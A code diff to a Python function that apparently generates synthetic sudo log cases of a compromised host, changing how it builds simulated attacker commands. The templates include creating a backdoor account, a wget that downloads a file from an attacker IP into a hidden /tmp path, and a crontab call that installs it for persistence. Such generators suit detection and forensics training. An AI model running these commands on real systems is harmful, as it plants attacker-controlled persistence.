@@ -672,12 +672,10 @@ def generate(seed: int) -> Case:
     )
     commands.extend([passwd, usermod] if rng.random() < 0.5 else [usermod, passwd])
     if rng.random() < 0.6:
-        script = rng.choice(("u", "up", "sys", "x", "kw"))
-        web = rng.choice((80, 8000, 8080, 8443))
-        commands.append(
-            (f"/usr/bin/wget -q http://{attacker_ip}:{web}/{script}.sh -O /tmp/.{script}", 2, ())
-        )
-        commands.append((f"/usr/bin/crontab -u {backdoor} /tmp/.{script}", 1, ()))
+        job = rng.choice(("c", "cr", "t", "job", "upd"))  # a crontab file from the attacker
+        url = f"http://{attacker_ip}:{rng.choice((8000, 8080, 8888))}/{job}.txt"
+        commands.append((f"/usr/bin/wget -q {url} -O /tmp/.{job}", 2, ()))
+        commands.append((f"/usr/bin/crontab -u {backdoor} /tmp/.{job}", 1, ()))
     t = login + rng.randint(15, 90)
     for command, dur, extra in commands:
         _sudo(log, t, compromised, uids[compromised], tty, command, dur, extra)
